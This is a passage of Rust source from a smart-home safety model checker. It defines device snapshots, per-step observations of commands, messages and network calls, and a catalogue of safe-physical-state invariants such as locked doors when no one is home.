        assert_eq!(violated.len(), 6);
    }

    #[test]
    fn robustness_violation_requires_failure_without_notification() {
        let set = PropertySet::all();
        let step = StepObservation { command_failures: 1, ..Default::default() };
        let violated = set.check_step(&step);
        assert_eq!(violated, vec![PropertyId(45)]);
        let step = StepObservation {
            command_failures: 1,
            messages: vec![MessageRecord {
                app: "A".into(),
                channel: MessageChannel::Push,
                recipient: String::new(),
                body: "device offline".into(),
            }],
            ..Default::default()
        };
        assert!(set.check_step(&step).is_empty());
    }

    #[test]
    fn snapshot_checking_reports_physical_ids() {
        let set = PropertySet::all();
        let snap = Snapshot {
            mode: "Away".into(),
            devices: vec![DeviceSnapshot {
                id: DeviceId(0),
                label: "frontDoor".into(),
                capability: "lock".into(),
                role: DeviceRole::MainDoorLock,
                attributes: vec![("lock".into(), Value::Str("unlocked".into()))],
                online: true,
            }],
            time_seconds: 0,
        };
        let violated = set.check_snapshot(&snap);
        assert!(!violated.is_empty());
        for id in &violated {
            assert_eq!(set.get(*id).unwrap().class, PropertyClass::PhysicalState);
        }
        // An empty home violates nothing.
        assert!(set.check_snapshot(&Snapshot::default()).is_empty());
    }

    #[test]
    fn check_point_unions_both_views() {
        let set = PropertySet::all();
        let snap = Snapshot {
            mode: "Away".into(),
            devices: vec![DeviceSnapshot {
                id: DeviceId(0),
                label: "frontDoor".into(),
                capability: "lock".into(),
                role: DeviceRole::MainDoorLock,
                attributes: vec![("lock".into(), Value::Str("unlocked".into()))],
                online: true,
            }],
            time_seconds: 0,
        };
        let step = StepObservation { unsubscribes: vec!["A".into()], ..Default::default() };
        let both = set.check_point(&snap, &step);
        assert!(both.contains(&PropertyId(43)));
        assert!(both.iter().any(|id| set.get(*id).unwrap().class == PropertyClass::PhysicalState));
    }

    #[test]
    fn content_hash_is_order_insensitive_but_content_sensitive() {
        let a = PropertySet::all();
        let mut reversed_specs = paper_properties();
        reversed_specs.reverse();
        let b = PropertySet::from_specs(reversed_specs);
        assert_eq!(a.content_hash(), b.content_hash());
        let extended = a.clone().with(PropertySpec::builder(46, "x").never(Expr::mode_is("Night")));
        assert_ne!(a.content_hash(), extended.content_hash());
    }

    #[test]
    fn set_roundtrips_through_json() {
        let set = PropertySet::selection(&[PropertyId(1), PropertyId(45)])
            .with(PropertySpec::builder(46, "custom").never(Expr::mode_is("Night")));
        let back = PropertySet::from_json(&set.to_json()).unwrap();
        assert_eq!(back, set);
        assert_eq!(back.content_hash(), set.content_hash());
    }

    #[test]
    fn property_id_display_and_class_labels() {
        assert_eq!(PropertyId(7).to_string(), "P07");
        assert_eq!(PropertyClass::PhysicalState.label(), "Unsafe physical states");
        assert_eq!(PropertyClass::Custom("Irrigation".into()).label(), "Irrigation");
        assert_eq!(
            DuplicatePropertyId(PropertyId(3)).to_string(),
            "property id P03 is already registered"
        );
    }
}
