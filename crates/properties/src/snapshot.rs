//! Snapshots of the physical system state and per-step observations.
//!
//! Safety properties are evaluated against two views produced by the model
//! generator after each external event is fully dispatched (Algorithm 1):
//!
//! * a [`Snapshot`] of the *physical* state — every device's attributes, the
//!   location mode and the modelled time — used by the 38 safe-physical-state
//!   invariants (Table 4);
//! * a [`StepObservation`] of what *happened* during the step — the commands
//!   each actuator received, messages sent, network calls, fake events and
//!   `unsubscribe` calls, plus failure bookkeeping — used by the conflicting/
//!   repeated-command, information-leakage and robustness properties.

use iotsan_devices::DeviceId;
use iotsan_ir::Value;

/// The user-supplied *device association* (§7): what a generic device such as
/// a smart outlet actually controls in the home.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum DeviceRole {
    /// No special association.
    #[default]
    Generic,
    /// The outlet/switch powers a space heater.
    Heater,
    /// The outlet/switch powers an air conditioner.
    AirConditioner,
    /// A light fixture.
    Light,
    /// The lock on the main entrance door.
    MainDoorLock,
    /// A garage or entrance door controller.
    EntranceDoor,
    /// A siren/strobe alarm.
    Alarm,
    /// The main water shut-off valve.
    WaterValve,
    /// Lawn/garden sprinkler.
    Sprinkler,
    /// A coffee maker, oven or other heat-producing appliance.
    Appliance,
    /// A security camera.
    Camera,
}

impl DeviceRole {
    /// Parses the role names used in configuration files.
    pub fn parse(name: &str) -> DeviceRole {
        match name.trim().to_ascii_lowercase().as_str() {
            "heater" => DeviceRole::Heater,
            "ac" | "airconditioner" | "air_conditioner" | "air conditioner" => {
                DeviceRole::AirConditioner
            }
            "light" | "bulb" | "lamp" => DeviceRole::Light,
            "maindoorlock" | "main_door_lock" | "main door lock" | "frontdoorlock" => {
                DeviceRole::MainDoorLock
            }
            "entrancedoor" | "entrance_door" | "entrance door" | "garagedoor" => {
                DeviceRole::EntranceDoor
            }
            "alarm" | "siren" => DeviceRole::Alarm,
            "watervalve" | "water_valve" | "water valve" => DeviceRole::WaterValve,
            "sprinkler" => DeviceRole::Sprinkler,
            "appliance" | "coffeemaker" | "oven" => DeviceRole::Appliance,
            "camera" => DeviceRole::Camera,
            _ => DeviceRole::Generic,
        }
    }
}

/// The state of one device inside a [`Snapshot`].
#[derive(Debug, Clone, PartialEq)]
pub struct DeviceSnapshot {
    /// System identifier.
    pub id: DeviceId,
    /// User label (e.g. `myHeaterOutlet`).
    pub label: String,
    /// Capability name (e.g. `switch`, `lock`, `smokeDetector`).
    pub capability: String,
    /// User-supplied association.
    pub role: DeviceRole,
    /// Attribute values.
    pub attributes: Vec<(String, Value)>,
    /// Whether the device is online.
    pub online: bool,
}

impl DeviceSnapshot {
    /// The value of an attribute, if present.
    pub fn attr(&self, name: &str) -> Option<&Value> {
        self.attributes.iter().find(|(n, _)| n == name).map(|(_, v)| v)
    }

    /// True when `attribute == value` (loose comparison, allocation-free).
    pub fn attr_is(&self, attribute: &str, value: &str) -> bool {
        self.attr(attribute).map(|v| v.eq_str(value)).unwrap_or(false)
    }

    /// Numeric value of an attribute, if it has one.
    pub fn attr_number(&self, attribute: &str) -> Option<f64> {
        self.attr(attribute).and_then(|v| v.as_number())
    }
}

/// A complete physical-state snapshot.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Snapshot {
    /// Current location mode (`Home`, `Away`, `Night`).
    pub mode: String,
    /// Every installed device.
    pub devices: Vec<DeviceSnapshot>,
    /// Modelled time in seconds.
    pub time_seconds: u64,
}

impl Snapshot {
    /// Devices with the given capability.
    pub fn by_capability<'a>(
        &'a self,
        capability: &'a str,
    ) -> impl Iterator<Item = &'a DeviceSnapshot> {
        self.devices.iter().filter(move |d| d.capability == capability)
    }

    /// Devices with the given role.
    pub fn by_role(&self, role: DeviceRole) -> impl Iterator<Item = &DeviceSnapshot> {
        self.devices.iter().filter(move |d| d.role == role)
    }

    /// True when any presence sensor reports `present`.  When the system has
    /// no presence sensor, the location mode is used as a proxy (the paper's
    /// properties treat mode `Away` as "no one at home").
    pub fn anyone_home(&self) -> bool {
        let mut has_sensor = false;
        for sensor in self.by_capability("presenceSensor") {
            has_sensor = true;
            if sensor.attr_is("presence", "present") {
                return true;
            }
        }
        if has_sensor {
            false
        } else {
            !self.mode.eq_ignore_ascii_case("away")
        }
    }

    /// True when the home is in sleeping mode.
    pub fn sleeping(&self) -> bool {
        self.mode.eq_ignore_ascii_case("night")
    }

    /// True when any smoke detector reports smoke.
    pub fn smoke_detected(&self) -> bool {
        self.by_capability("smokeDetector").any(|d| d.attr_is("smoke", "detected"))
    }

    /// True when any CO detector reports carbon monoxide.
    pub fn co_detected(&self) -> bool {
        self.by_capability("carbonMonoxideDetector")
            .any(|d| d.attr_is("carbonMonoxide", "detected"))
    }

    /// True when any motion sensor reports motion (used as the intruder proxy
    /// by the security properties when the system is in `Away` mode).
    pub fn motion_detected(&self) -> bool {
        self.by_capability("motionSensor").any(|d| d.attr_is("motion", "active"))
    }

    /// True when any water-leak sensor is wet.
    pub fn leak_detected(&self) -> bool {
        self.by_capability("waterSensor").any(|d| d.attr_is("water", "wet"))
    }

    /// The minimum temperature reported by any temperature sensor/thermostat.
    pub fn min_temperature(&self) -> Option<f64> {
        self.devices
            .iter()
            .filter_map(|d| d.attr_number("temperature"))
            .min_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal))
    }

    /// The maximum temperature reported by any temperature sensor/thermostat.
    pub fn max_temperature(&self) -> Option<f64> {
        self.devices
            .iter()
            .filter_map(|d| d.attr_number("temperature"))
            .max_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal))
    }

    /// True when any device playing the given role has `attribute == value`.
    pub fn role_attr_is(&self, role: DeviceRole, attribute: &str, value: &str) -> bool {
        self.by_role(role).any(|d| d.attr_is(attribute, value))
    }
}

/// One actuator command observed during a step.
#[derive(Debug, Clone, PartialEq)]
pub struct CommandRecord {
    /// The app that issued the command.
    pub app: String,
    /// The handler that issued it.
    pub handler: String,
    /// Target device.
    pub device: DeviceId,
    /// Target device label.
    pub device_label: String,
    /// Command name (`on`, `off`, `lock`, ...).
    pub command: String,
    /// Whether the command was actually delivered (false under failure).
    pub delivered: bool,
    /// Whether the command changed the device state (false = repeated/no-op).
    pub changed_state: bool,
}

/// A user-facing message sent during a step.
#[derive(Debug, Clone, PartialEq)]
pub struct MessageRecord {
    /// The app that sent it.
    pub app: String,
    /// `sms` or `push`.
    pub channel: MessageChannel,
    /// SMS recipient (empty for push messages).
    pub recipient: String,
    /// Message body.
    pub body: String,
}

/// Message channel.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MessageChannel {
    /// `sendSms` / `sendSmsMessage`.
    Sms,
    /// `sendPush` / notifications.
    Push,
}

/// A network request observed during a step (information can leak here).
#[derive(Debug, Clone, PartialEq)]
pub struct NetworkRecord {
    /// The app that made the call.
    pub app: String,
    /// Destination URL.
    pub url: String,
    /// Whether the user allowed this app to use network interfaces.
    pub allowed: bool,
}

/// A synthetic event raised by an app via `sendEvent`.
#[derive(Debug, Clone, PartialEq)]
pub struct FakeEventRecord {
    /// The app that raised it.
    pub app: String,
    /// The claimed attribute (e.g. `smoke`).
    pub attribute: String,
    /// The claimed value (e.g. `detected`).
    pub value: String,
}

/// Everything observed while dispatching one external event.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct StepObservation {
    /// Actuator commands issued by handlers during the step.
    pub commands: Vec<CommandRecord>,
    /// Messages sent to the user.
    pub messages: Vec<MessageRecord>,
    /// Network requests.
    pub network: Vec<NetworkRecord>,
    /// Synthetic events raised by apps.
    pub fake_events: Vec<FakeEventRecord>,
    /// Apps that called `unsubscribe` during the step.
    pub unsubscribes: Vec<String>,
    /// The phone number(s) the user configured as legitimate SMS recipients.
    pub configured_recipients: Vec<String>,
    /// Whether any command in this step was lost to a device/communication
    /// failure.
    pub command_failures: usize,
}

impl StepObservation {
    /// Clears every per-step record while keeping buffer capacities and the
    /// configured recipients (which belong to the system, not the step).
    /// The model generator reuses one observation per search worker, so the
    /// hot loop allocates nothing here after warm-up.
    pub fn reset(&mut self) {
        self.commands.clear();
        self.messages.clear();
        self.network.clear();
        self.fake_events.clear();
        self.unsubscribes.clear();
        self.command_failures = 0;
    }

    /// True when the step sent an SMS to a recipient that is not one of the
    /// configured phone numbers (potential leakage, §3).
    pub fn sms_recipient_mismatch(&self) -> bool {
        self.messages.iter().any(|m| {
            m.channel == MessageChannel::Sms
                && !m.recipient.is_empty()
                && !self.configured_recipients.iter().any(|r| r == &m.recipient)
        })
    }
}

/// Commands that cancel each other when sent to the same actuator.
const CONFLICTING_PAIRS: &[(&str, &str)] = &[
    ("on", "off"),
    ("lock", "unlock"),
    ("open", "close"),
    ("siren", "off"),
    ("strobe", "off"),
    ("both", "off"),
    ("heat", "cool"),
    ("play", "stop"),
    ("mute", "unmute"),
];

/// True when one actuator received two conflicting commands in the step.
pub fn has_conflicting_commands(step: &StepObservation) -> bool {
    // Direct pair scan (same device, i < j): equivalent to grouping by
    // device first, but allocation-free — this runs on every explored
    // transition and step command counts are tiny.
    let cmds = &step.commands;
    for i in 0..cmds.len() {
        for j in (i + 1)..cmds.len() {
            if cmds[i].device != cmds[j].device {
                continue;
            }
            let a = cmds[i].command.as_str();
            let b = cmds[j].command.as_str();
            if CONFLICTING_PAIRS.iter().any(|(x, y)| (a == *x && b == *y) || (a == *y && b == *x)) {
                return true;
            }
        }
    }
    false
}

/// True when one actuator received the same command more than once in the step.
pub fn has_repeated_commands(step: &StepObservation) -> bool {
    let cmds = &step.commands;
    for i in 0..cmds.len() {
        for j in (i + 1)..cmds.len() {
            if cmds[i].device == cmds[j].device && cmds[i].command == cmds[j].command {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dev(
        id: u32,
        label: &str,
        capability: &str,
        role: DeviceRole,
        attrs: &[(&str, &str)],
    ) -> DeviceSnapshot {
        DeviceSnapshot {
            id: DeviceId(id),
            label: label.into(),
            capability: capability.into(),
            role,
            attributes: attrs
                .iter()
                .map(|(n, v)| (n.to_string(), Value::Str(v.to_string())))
                .collect(),
            online: true,
        }
    }

    #[test]
    fn role_parsing() {
        assert_eq!(DeviceRole::parse("AC"), DeviceRole::AirConditioner);
        assert_eq!(DeviceRole::parse("main door lock"), DeviceRole::MainDoorLock);
        assert_eq!(DeviceRole::parse("whatever"), DeviceRole::Generic);
    }

    #[test]
    fn anyone_home_uses_presence_then_mode() {
        let mut snap = Snapshot {
            mode: "Away".into(),
            devices: vec![dev(
                0,
                "alice",
                "presenceSensor",
                DeviceRole::Generic,
                &[("presence", "present")],
            )],
            time_seconds: 0,
        };
        assert!(snap.anyone_home());
        snap.devices[0].attributes[0].1 = Value::Str("not present".into());
        assert!(!snap.anyone_home());
        // Without presence sensors, the mode decides.
        snap.devices.clear();
        assert!(!snap.anyone_home());
        snap.mode = "Home".into();
        assert!(snap.anyone_home());
    }

    #[test]
    fn detectors_and_temperature_helpers() {
        let snap = Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "smoke", "smokeDetector", DeviceRole::Generic, &[("smoke", "detected")]),
                DeviceSnapshot {
                    id: DeviceId(1),
                    label: "temp".into(),
                    capability: "temperatureMeasurement".into(),
                    role: DeviceRole::Generic,
                    attributes: vec![("temperature".into(), Value::Int(50))],
                    online: true,
                },
                DeviceSnapshot {
                    id: DeviceId(2),
                    label: "thermostat".into(),
                    capability: "thermostat".into(),
                    role: DeviceRole::Generic,
                    attributes: vec![("temperature".into(), Value::Int(85))],
                    online: true,
                },
            ],
            time_seconds: 0,
        };
        assert!(snap.smoke_detected());
        assert!(!snap.co_detected());
        assert_eq!(snap.min_temperature(), Some(50.0));
        assert_eq!(snap.max_temperature(), Some(85.0));
    }

    #[test]
    fn role_attr_lookup() {
        let snap = Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "heaterOutlet", "switch", DeviceRole::Heater, &[("switch", "on")]),
                dev(1, "acOutlet", "switch", DeviceRole::AirConditioner, &[("switch", "off")]),
            ],
            time_seconds: 0,
        };
        assert!(snap.role_attr_is(DeviceRole::Heater, "switch", "on"));
        assert!(!snap.role_attr_is(DeviceRole::AirConditioner, "switch", "on"));
    }

    #[test]
    fn observation_reset_clears_step_records_but_keeps_recipients() {
        let mut obs = StepObservation {
            commands: vec![CommandRecord {
                app: "A".into(),
                handler: "h".into(),
                device: DeviceId(0),
                device_label: "dev0".into(),
                command: "on".into(),
                delivered: true,
                changed_state: true,
            }],
            unsubscribes: vec!["A".into()],
            configured_recipients: vec!["5551234".into()],
            command_failures: 2,
            ..Default::default()
        };
        obs.reset();
        assert!(obs.commands.is_empty());
        assert!(obs.unsubscribes.is_empty());
        assert_eq!(obs.command_failures, 0);
        // Recipients belong to the system, not the step.
        assert_eq!(obs.configured_recipients, vec!["5551234".to_string()]);
    }

    #[test]
    fn conflicting_and_repeated_commands_detected() {
        let cmd = |device: u32, command: &str| CommandRecord {
            app: "A".into(),
            handler: "h".into(),
            device: DeviceId(device),
            device_label: format!("dev{device}"),
            command: command.into(),
            delivered: true,
            changed_state: true,
        };
        let step =
            StepObservation { commands: vec![cmd(0, "on"), cmd(0, "off")], ..Default::default() };
        assert!(has_conflicting_commands(&step));
        // Different devices do not conflict.
        let step =
            StepObservation { commands: vec![cmd(0, "on"), cmd(1, "off")], ..Default::default() };
        assert!(!has_conflicting_commands(&step));
        // Same direction commands do not conflict (they repeat).
        let step =
            StepObservation { commands: vec![cmd(0, "on"), cmd(0, "on")], ..Default::default() };
        assert!(!has_conflicting_commands(&step));
        assert!(has_repeated_commands(&step));
        // Pairs are symmetric.
        let step = StepObservation {
            commands: vec![cmd(3, "unlock"), cmd(3, "lock")],
            ..Default::default()
        };
        assert!(has_conflicting_commands(&step));
    }

    #[test]
    fn sms_recipient_mismatch_detection() {
        let mut obs = StepObservation {
            messages: vec![MessageRecord {
                app: "A".into(),
                channel: MessageChannel::Sms,
                recipient: "5551234".into(),
                body: "hello".into(),
            }],
            configured_recipients: vec!["5551234".into()],
            ..Default::default()
        };
        assert!(!obs.sms_recipient_mismatch());
        obs.messages[0].recipient = "6669999".into();
        assert!(obs.sms_recipient_mismatch());
    }
}
