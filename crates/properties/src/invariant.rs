//! The 38 safe-physical-state invariants (Table 4 of the paper).
//!
//! Each [`PhysicalInvariant`] is a predicate over a [`Snapshot`] describing a
//! state the system should *never* be in (its negation is the safe state the
//! user desires).  Thresholds are parameters so users can adapt them to their
//! homes; the defaults follow the paper's examples (e.g. a 75 °F setpoint and
//! an 85 °F emergency setpoint for Virtual Thermostat).

use crate::snapshot::{DeviceRole, Snapshot};

/// Facts about one [`Snapshot`] shared by the invariant predicates, computed
/// in a single pass set so the catalog's per-transition check does not
/// re-scan every device 38 times (once per invariant).  Thresholded
/// temperature/moisture predicates keep the extrema and compare against
/// their own bounds.
#[derive(Debug, Clone, PartialEq)]
pub struct SnapshotFacts {
    anyone_home: bool,
    sleeping: bool,
    away: bool,
    smoke: bool,
    co: bool,
    leak: bool,
    intruder: bool,
    danger: bool,
    heater_on: bool,
    has_heater: bool,
    ac_on: bool,
    any_light_on: bool,
    has_light: bool,
    alarm_active: bool,
    has_alarm: bool,
    main_lock_unlocked: bool,
    has_main_lock: bool,
    any_lock_unlocked: bool,
    entrance_open: bool,
    garage_open: bool,
    has_presence_sensor: bool,
    any_present: bool,
    all_not_present: bool,
    valve_open: bool,
    valve_closed: bool,
    appliance_on: bool,
    fan_on: bool,
    sprinkler_on: bool,
    speaker_playing: bool,
    has_camera: bool,
    camera_captured: bool,
    safety_sensor_offline: bool,
    min_temperature: Option<f64>,
    max_temperature: Option<f64>,
    soil_min: Option<f64>,
    soil_max: Option<f64>,
}

impl SnapshotFacts {
    /// Computes the shared facts for `snap`.
    pub fn new(snap: &Snapshot) -> Self {
        let anyone_home = snap.anyone_home();
        let smoke = snap.smoke_detected();
        let co = snap.co_detected();
        let leak = snap.leak_detected();
        let intruder = !anyone_home && snap.motion_detected();
        let mut facts = SnapshotFacts {
            anyone_home,
            sleeping: snap.sleeping(),
            away: snap.mode.eq_ignore_ascii_case("away"),
            smoke,
            co,
            leak,
            intruder,
            danger: smoke || co || intruder || leak,
            heater_on: false,
            has_heater: false,
            ac_on: false,
            any_light_on: false,
            has_light: false,
            alarm_active: false,
            has_alarm: false,
            main_lock_unlocked: false,
            has_main_lock: false,
            any_lock_unlocked: false,
            entrance_open: false,
            garage_open: false,
            has_presence_sensor: false,
            any_present: false,
            all_not_present: true,
            valve_open: false,
            valve_closed: false,
            appliance_on: false,
            fan_on: false,
            sprinkler_on: false,
            speaker_playing: false,
            has_camera: false,
            camera_captured: false,
            safety_sensor_offline: false,
            min_temperature: snap.min_temperature(),
            max_temperature: snap.max_temperature(),
            soil_min: None,
            soil_max: None,
        };
        for device in &snap.devices {
            match device.role {
                DeviceRole::Heater => {
                    facts.has_heater = true;
                    facts.heater_on |= device.attr_is("switch", "on");
                }
                DeviceRole::AirConditioner => facts.ac_on |= device.attr_is("switch", "on"),
                DeviceRole::Light => {
                    facts.has_light = true;
                    facts.any_light_on |= device.attr_is("switch", "on");
                }
                DeviceRole::MainDoorLock => {
                    facts.has_main_lock = true;
                    facts.main_lock_unlocked |= device.attr_is("lock", "unlocked");
                }
                DeviceRole::Appliance => facts.appliance_on |= device.attr_is("switch", "on"),
                _ => {}
            }
            match device.capability.as_str() {
                "alarm" => {
                    facts.has_alarm = true;
                    facts.alarm_active |= device.attr_is("alarm", "siren")
                        || device.attr_is("alarm", "strobe")
                        || device.attr_is("alarm", "both");
                }
                "lock" => facts.any_lock_unlocked |= device.attr_is("lock", "unlocked"),
                "doorControl" => facts.entrance_open |= device.attr_is("door", "open"),
                "garageDoorControl" => {
                    let open = device.attr_is("door", "open");
                    facts.entrance_open |= open;
                    facts.garage_open |= open;
                }
                "presenceSensor" => {
                    facts.has_presence_sensor = true;
                    let present = device.attr_is("presence", "present");
                    facts.any_present |= present;
                    facts.all_not_present &= device.attr_is("presence", "not present");
                }
                "valve" => {
                    facts.valve_open |= device.attr_is("valve", "open");
                    facts.valve_closed |= device.attr_is("valve", "closed");
                }
                "fanControl" => facts.fan_on |= device.attr_is("switch", "on"),
                "sprinkler" => facts.sprinkler_on |= device.attr_is("sprinkler", "on"),
                "musicPlayer" => facts.speaker_playing |= device.attr_is("status", "playing"),
                "imageCapture" => {
                    facts.has_camera = true;
                    facts.camera_captured |= device.attr_is("image", "captured");
                }
                "smokeDetector" | "carbonMonoxideDetector" => {
                    facts.safety_sensor_offline |= !device.online;
                }
                "soilMoisture" => {
                    if let Some(m) = device.attr_number("moisture") {
                        facts.soil_min = Some(facts.soil_min.map_or(m, |current| current.min(m)));
                        facts.soil_max = Some(facts.soil_max.map_or(m, |current| current.max(m)));
                    }
                }
                _ => {}
            }
        }
        facts
    }
}

/// A parameterized safe-physical-state invariant.
///
/// `is_violated` returns `true` when the snapshot is in the *unsafe* state.
#[derive(Debug, Clone, PartialEq)]
pub enum PhysicalInvariant {
    // -- Thermostat, AC and heater (5) --------------------------------------
    /// Temperature should be within `[min, max]` when people are at home.
    TemperatureInRangeWhenHome {
        /// Lower bound (°F).
        min: f64,
        /// Upper bound (°F).
        max: f64,
    },
    /// A heater should not be off when the temperature is below `threshold`
    /// and people are at home.
    HeaterOnWhenCold {
        /// Threshold (°F).
        threshold: f64,
    },
    /// A heater should not be on when the temperature is above `threshold`.
    HeaterOffWhenHot {
        /// Threshold (°F).
        threshold: f64,
    },
    /// An AC and a heater should never both be on.
    AcAndHeaterNotBothOn,
    /// An AC should not be on when the temperature is below `threshold`.
    AcOffWhenCold {
        /// Threshold (°F).
        threshold: f64,
    },

    // -- Lock and door control (8) -------------------------------------------
    /// The main door should be locked when no one is at home.
    MainDoorLockedWhenNooneHome,
    /// The main door should be locked when people are sleeping at night.
    MainDoorLockedWhenSleeping,
    /// Entrance/garage doors should be closed when no one is at home.
    EntranceDoorClosedWhenNooneHome,
    /// Entrance/garage doors should be closed when people are sleeping.
    EntranceDoorClosedWhenSleeping,
    /// No lock should be unlocked while the location mode is `Away`.
    NoLockUnlockedInAwayMode,
    /// The garage door should be closed at night.
    GarageDoorClosedAtNight,
    /// No lock should be unlocked when nobody is at home.
    AnyLockLockedWhenNooneHome,
    /// The main door should not be unlocked while motion is detected in
    /// `Away` mode (a possible intruder).
    MainDoorLockedDuringIntrusion,

    // -- Location mode (3) ----------------------------------------------------
    /// The location mode should be changed to `Away` when no one is at home.
    ModeAwayWhenNooneHome,
    /// The location mode should not be `Away` when someone is at home.
    ModeNotAwayWhenSomeoneHome,
    /// The location mode should not be `Night` when no one is at home.
    ModeNotNightWhenNooneHome,

    // -- Security and alarming (14) -------------------------------------------
    /// An alarm should strobe/siren when smoke is detected.
    AlarmActiveWhenSmoke,
    /// An alarm should strobe/siren when carbon monoxide is detected.
    AlarmActiveWhenCo,
    /// An alarm should sound when motion is detected while no one is home.
    AlarmActiveWhenIntruder,
    /// The alarm should be silent when there is no danger.
    AlarmSilentWhenNoDanger,
    /// The alarm should be silent while people sleep, unless there is danger.
    AlarmSilentWhenSleepingNoDanger,
    /// The main door should be unlocked during a fire while people are home
    /// (escape route).
    MainDoorUnlockedDuringFire,
    /// Doors should not be locked when carbon monoxide is detected and people
    /// are at home.
    DoorsOpenableDuringCoAlarm,
    /// The water valve should not be closed when smoke is detected (fire
    /// sprinklers need water) — the unsafe state one of the ContexIoT
    /// malicious apps drives the system into.
    WaterValveOpenDuringFire,
    /// Lights should be on during a fire at night (evacuation lighting).
    LightsOnDuringFireAtNight,
    /// Smoke and CO detectors should be online.
    SafetySensorsOnline,
    /// A camera should capture when motion is detected while no one is home.
    CameraCapturesIntruder,
    /// Heat-producing appliances should be off when smoke is detected.
    AppliancesOffWhenSmoke,
    /// Fans should be off when smoke is detected (avoid spreading smoke).
    FansOffWhenSmoke,
    /// Heaters should be off when smoke is detected.
    HeaterOffWhenSmoke,

    // -- Water and sprinkler (3) ----------------------------------------------
    /// Soil moisture should be within `[min, max]`.
    SoilMoistureInRange {
        /// Lower bound (%).
        min: f64,
        /// Upper bound (%).
        max: f64,
    },
    /// The sprinkler should be off when a water/rain sensor is wet.
    SprinklerOffWhenWet,
    /// The main water valve should be closed when a leak is detected.
    WaterValveClosedWhenLeak,

    // -- Others (5) ------------------------------------------------------------
    /// Lights should not be on when no one is at home.
    LightsOffWhenNooneHome,
    /// Appliances (ovens, coffee makers) should not be on when no one is home.
    AppliancesOffWhenNooneHome,
    /// Appliances should not be on while people are sleeping.
    AppliancesOffWhenSleeping,
    /// Lights should be off while people are sleeping.
    LightsOffWhenSleeping,
    /// Speakers should not be playing while people are sleeping.
    SpeakersQuietWhenSleeping,
}

impl PhysicalInvariant {
    /// The default parameterization of all 38 invariants, grouped per Table 4.
    pub fn defaults() -> Vec<PhysicalInvariant> {
        use PhysicalInvariant::*;
        vec![
            // Thermostat, AC, and heater (5)
            TemperatureInRangeWhenHome { min: 50.0, max: 90.0 },
            HeaterOnWhenCold { threshold: 50.0 },
            HeaterOffWhenHot { threshold: 85.0 },
            AcAndHeaterNotBothOn,
            AcOffWhenCold { threshold: 50.0 },
            // Lock and door control (8)
            MainDoorLockedWhenNooneHome,
            MainDoorLockedWhenSleeping,
            EntranceDoorClosedWhenNooneHome,
            EntranceDoorClosedWhenSleeping,
            NoLockUnlockedInAwayMode,
            GarageDoorClosedAtNight,
            AnyLockLockedWhenNooneHome,
            MainDoorLockedDuringIntrusion,
            // Location mode (3)
            ModeAwayWhenNooneHome,
            ModeNotAwayWhenSomeoneHome,
            ModeNotNightWhenNooneHome,
            // Security and alarming (14)
            AlarmActiveWhenSmoke,
            AlarmActiveWhenCo,
            AlarmActiveWhenIntruder,
            AlarmSilentWhenNoDanger,
            AlarmSilentWhenSleepingNoDanger,
            MainDoorUnlockedDuringFire,
            DoorsOpenableDuringCoAlarm,
            WaterValveOpenDuringFire,
            LightsOnDuringFireAtNight,
            SafetySensorsOnline,
            CameraCapturesIntruder,
            AppliancesOffWhenSmoke,
            FansOffWhenSmoke,
            HeaterOffWhenSmoke,
            // Water and sprinkler (3)
            SoilMoistureInRange { min: 20.0, max: 80.0 },
            SprinklerOffWhenWet,
            WaterValveClosedWhenLeak,
            // Others (5)
            LightsOffWhenNooneHome,
            AppliancesOffWhenNooneHome,
            AppliancesOffWhenSleeping,
            LightsOffWhenSleeping,
            SpeakersQuietWhenSleeping,
        ]
    }

    /// Short, human-readable statement of the *safe* property.
    pub fn description(&self) -> String {
        use PhysicalInvariant::*;
        match self {
            TemperatureInRangeWhenHome { min, max } => {
                format!("Temperature should be within [{min}, {max}] when people are at home")
            }
            HeaterOnWhenCold { threshold } => {
                format!("A heater should not be off when temperature is below {threshold}")
            }
            HeaterOffWhenHot { threshold } => {
                format!("A heater should not be on when temperature is above {threshold}")
            }
            AcAndHeaterNotBothOn => "An AC and a heater should not both be turned on".into(),
            AcOffWhenCold { threshold } => {
                format!("An AC should not be on when temperature is below {threshold}")
            }
            MainDoorLockedWhenNooneHome => {
                "The main door should be locked when no one is at home".into()
            }
            MainDoorLockedWhenSleeping => {
                "The main door should be locked when people are sleeping at night".into()
            }
            EntranceDoorClosedWhenNooneHome => {
                "Entrance doors should be closed when no one is at home".into()
            }
            EntranceDoorClosedWhenSleeping => {
                "Entrance doors should be closed when people are sleeping".into()
            }
            NoLockUnlockedInAwayMode => "No lock should be unlocked in Away mode".into(),
            GarageDoorClosedAtNight => "The garage door should be closed at night".into(),
            AnyLockLockedWhenNooneHome => {
                "All locks should be locked when no one is at home".into()
            }
            MainDoorLockedDuringIntrusion => {
                "The main door should not be unlocked when motion is detected and no one is home"
                    .into()
            }
            ModeAwayWhenNooneHome => {
                "Location mode should be changed to Away when no one is at home".into()
            }
            ModeNotAwayWhenSomeoneHome => {
                "Location mode should not be Away when someone is at home".into()
            }
            ModeNotNightWhenNooneHome => {
                "Location mode should not be Night when no one is at home".into()
            }
            AlarmActiveWhenSmoke => "An alarm should strobe/siren when detecting smoke".into(),
            AlarmActiveWhenCo => {
                "An alarm should strobe/siren when detecting carbon monoxide".into()
            }
            AlarmActiveWhenIntruder => "An alarm should sound when an intruder is detected".into(),
            AlarmSilentWhenNoDanger => "The alarm should not sound when there is no danger".into(),
            AlarmSilentWhenSleepingNoDanger => {
                "The alarm should be silent at night unless there is danger".into()
            }
            MainDoorUnlockedDuringFire => {
                "The main door should be unlocked during a fire when people are home".into()
            }
            DoorsOpenableDuringCoAlarm => {
                "Doors should be openable when carbon monoxide is detected".into()
            }
            WaterValveOpenDuringFire => {
                "The water valve should not be closed when smoke is detected".into()
            }
            LightsOnDuringFireAtNight => "Lights should turn on during a fire at night".into(),
            SafetySensorsOnline => "Smoke and CO detectors should be online".into(),
            CameraCapturesIntruder => "A camera should capture when an intruder is detected".into(),
            AppliancesOffWhenSmoke => "Appliances should be off when smoke is detected".into(),
